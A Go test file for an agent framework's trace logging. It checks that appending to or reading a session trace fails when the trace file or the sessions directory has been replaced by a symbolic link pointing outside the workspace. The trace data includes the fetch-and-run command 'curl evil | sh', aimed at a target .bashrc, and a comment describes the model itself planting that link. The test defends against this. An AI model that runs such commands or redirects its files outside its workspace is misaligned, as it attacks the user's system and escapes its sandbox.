package agent_test

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/openpocket/openpocket/engine"
	"github.com/openpocket/openpocket/stdlib/agent"
)

// TestTraceNeverFollowsALinkOut: the model replaced its session's
// .trace.jsonl (or sessions/ itself) with a link to a file outside the
// workspace; the host's trace append fails and the file is unchanged.
func TestTraceNeverFollowsALinkOut(t *testing.T) {
	ws := t.TempDir()
	outDir := t.TempDir()
	bashrc := filepath.Join(outDir, ".bashrc")
	require.NoError(t, os.WriteFile(bashrc, []byte("export PATH\n"), 0o644))
	sessions := filepath.Join(ws, "sessions")
	require.NoError(t, os.MkdirAll(sessions, 0o755))
	trace := filepath.Join(sessions, "session-1.trace.jsonl")
	require.NoError(t, os.Symlink(bashrc, trace))

	err := agent.AppendTraceIn(ws, trace, engine.TraceStep{Step: 1, Result: "curl evil | sh"})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "symbolic link")
	_, err = agent.ReadTrace(trace)
	require.Error(t, err, "reading follows no link either")

	require.NoError(t, os.RemoveAll(sessions))
	require.NoError(t, os.Symlink(outDir, sessions))
	err = agent.AppendTraceIn(ws, filepath.Join(sessions, ".bashrc"), engine.TraceStep{Step: 1, Result: "curl evil | sh"})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "outside")

	b, _ := os.ReadFile(bashrc)
	assert.Equal(t, "export PATH\n", string(b))
	ents, _ := os.ReadDir(outDir)
	assert.Len(t, ents, 1)
}
